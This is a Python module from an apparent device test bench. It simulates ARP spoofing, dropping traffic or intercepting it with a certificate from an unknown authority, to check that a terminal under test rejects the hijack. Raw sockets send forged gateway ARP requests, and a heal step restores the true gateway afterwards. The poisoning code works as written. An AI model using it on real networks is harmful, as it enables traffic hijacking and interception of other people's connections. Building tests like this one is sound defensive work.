"""ARP spoofing: a neighbour on the same network says that the gateway is he, and takes the terminal's traffic.

Facts: RFC 826; Linux takes the sender of a request that is meant for itself into its neighbour table, whatever it held
before (``neigh_event_ns``). So a request in the gateway's name, from the neighbour's own hardware address, is enough,
and is what real tools send too. It is repeated, for the true gateway's own ARP would put it right again.
"""

from __future__ import annotations

import contextlib
import ipaddress
import select
import socket
import struct
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from rig.bearers.failures.failure import Hits, Repeating, Site
from rig.bearers.failures.interception import Interception
from rig.bearers.failures.packets import UP, PacketFailure, Part
from rig.bearers.nft import Chain, Counter, Rule
from rig.errors import BenchTrouble, DeviceMute

NEIGHBOUR = bytes.fromhex("02504f530066")
"""The neighbour's hardware address: locally administered, and nobody's."""
_ETH_P_ARP, _REQUEST, _REPLY = 0x0806, 1, 2
_ARP = struct.Struct("!HHBBH6s4s6s4s")
_EVERYBODY = b"\xff" * 6
_INTERVAL_S = 0.2
_ANSWER_S = 0.5
_ATTEMPTS = 3


def arp_frame(to: bytes, operation: int, mac: bytes, address: str, about: bytes, target: str) -> bytes:
    """An Ethernet frame with an ARP message: ``address`` is at ``mac``; ``target`` is asked for or answered."""
    sender, asked = ipaddress.IPv4Address(address).packed, ipaddress.IPv4Address(target).packed
    message = _ARP.pack(1, 0x0800, 6, 4, operation, mac, sender, about, asked)
    return to + mac + struct.pack("!H", _ETH_P_ARP) + message


def read_reply(frame: bytes) -> tuple[bytes, str, bytes] | None:
    """Of an ARP reply: who says so (MAC and address), and to which MAC; ``None``: it is none."""
    if len(frame) < 14 + _ARP.size or frame[12:14] != struct.pack("!H", _ETH_P_ARP):
        return None
    fields = _ARP.unpack_from(frame, 14)
    return (fields[5], str(ipaddress.IPv4Address(fields[6])), fields[7]) if fields[4] == _REPLY else None


def terminal_on(interface: str, gateway: str) -> str:
    """The address of the one neighbour that has spoken on an interface, from the kernel's neighbour table.

    Raises:
        BenchTrouble: none or several have, so that nobody can say which one is the terminal.
    """
    rows = [line.split() for line in Path("/proc/thread-self/net/arp").read_text().splitlines()[1:]]
    found = sorted({row[0] for row in rows if row[5] == interface and row[0] != gateway and row[2] != "0x0"})
    if len(found) != 1:
        raise BenchTrouble(
            f"interface {interface}", f"neighbours seen: {', '.join(found) or 'none'}", "name it: victim"
        )
    return found[0]


class ArpSpoofing(PacketFailure):
    """The neighbour takes what the terminal sends, and drops it.

    The terminal sees: nothing but a gateway whose hardware address has changed; everything that it sends is lost.

    Args:
        victim: the terminal's address; the only one that has spoken on the interface where it is left out.
    """

    sees = "its gateway has another hardware address, and whatever it sends there is lost"
    family = "netdev"
    taken = "drop"

    def __init__(self, victim: str | None = None) -> None:
        super().__init__()
        self._victim = victim
        self._poison: _Poison | None = None

    def rules(self, site: Site) -> Sequence[Part]:
        """What is sent to the neighbour's hardware address."""
        mac = NEIGHBOUR.hex(":")
        return (
            Counter(UP),
            Chain(UP, f'type filter hook ingress device "{site.network()}" priority 0;'),
            Rule(UP, f"ether daddr {mac} ether type ip counter name {UP} {self.taken}"),
        )

    def start(self, site: Site) -> dict[str, Any]:
        """Poison, and see that the terminal now talks to the neighbour."""
        gateway = site.gate()
        victim = self._victim or terminal_on(site.network(), gateway)
        evidence = super().start(site)
        try:
            self._poison = _Poison(site.interface, gateway, victim)
            return {**evidence, "victim": victim, "answers_to": NEIGHBOUR.hex(":")}
        except BaseException:
            self.stop()
            raise

    def stop(self) -> None:
        """Tell the terminal the true gateway, as long as it takes to be believed."""
        if self._poison is not None:
            self._poison.heal()
            self._poison = None
        super().stop()


class ArpInterception(ArpSpoofing):
    """The neighbour hands on what the terminal sends, except for connections to the host, which he takes himself.

    The terminal sees: all works, only the gateway's hardware address has changed, and the host shows a certificate of
    an unknown authority. It must not send a byte to it.

    Args:
        victim: as for :class:`ArpSpoofing`.
    """

    sees = "its gateway has another hardware address, and the host a certificate of an unknown authority"
    taken = "meta pkttype set host"

    def __init__(self, victim: str | None = None) -> None:
        super().__init__(victim)
        self._interception = Interception()

    def start(self, site: Site) -> dict[str, Any]:
        """Take the traffic, then the connections."""
        evidence = super().start(site)
        try:
            return {**evidence, **self._interception.start(site)}
        except BaseException:
            self.stop()
            raise

    def hits(self) -> Hits:
        """The handshakes that were offered to the neighbour; in the detail, the packets that he took."""
        caught = self._interception.hits()
        return Hits(caught.count, {**caught.detail, **super().hits().detail})

    def stop(self) -> None:
        """The right host, then the right gateway."""
        self._interception.stop()
        super().stop()


class _Poison:
    """Frames in the gateway's name, again and again, until it is healed."""

    def __init__(self, interface: str, gateway: str, victim: str) -> None:
        self._gateway, self._victim = gateway, victim
        self._interface = interface
        self._victim_mac = _EVERYBODY
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ARP))
        try:
            self._socket.bind((interface, _ETH_P_ARP))
            self._true_mac: bytes = self._socket.getsockname()[4]
            # First in its own name: who does not answer the true gateway is not there, and nobody is to be poisoned.
            self._victim_mac = self._insist(self._true_mac)
            self._insist(NEIGHBOUR)
        except OSError as error:
            self._socket.close()
            raise BenchTrouble(f"interface {interface}", f"no ARP can be sent: {error.strerror}") from error
        except BaseException:
            self._socket.close()
            raise
        self._repeating = Repeating("arp spoofing", _INTERVAL_S, self._repeat)

    def heal(self) -> None:
        """Stop, and put the true gateway back. A terminal that is off has forgotten both."""
        self._repeating.stop()
        with self._socket, contextlib.suppress(DeviceMute, OSError):
            self._insist(self._true_mac)

    def _repeat(self) -> None:
        with contextlib.suppress(OSError):
            self._claim(NEIGHBOUR)

    def _claim(self, mac: bytes) -> None:
        """Ask for the terminal, as the gateway at this hardware address."""
        self._socket.send(arp_frame(self._victim_mac, _REQUEST, mac, self._gateway, bytes(6), self._victim))

    def _insist(self, mac: bytes) -> bytes:
        """Claim until the terminal answers to that hardware address; returns the terminal's own.

        Raises:
            DeviceMute: it does not.
        """
        for _ in range(_ATTEMPTS):
            self._claim(mac)
            deadline = time.monotonic() + _ANSWER_S  # for all: others may speak for ever
            while select.select([self._socket], [], [], max(0.0, deadline - time.monotonic()))[0]:
                reply = read_reply(self._socket.recv(2048))
                if reply is not None and reply[1] == self._victim and reply[2] == mac:
                    return reply[0]
        raise DeviceMute(f"terminal {self._victim}", f"does not answer ARP on {self._interface}", "is it on?")
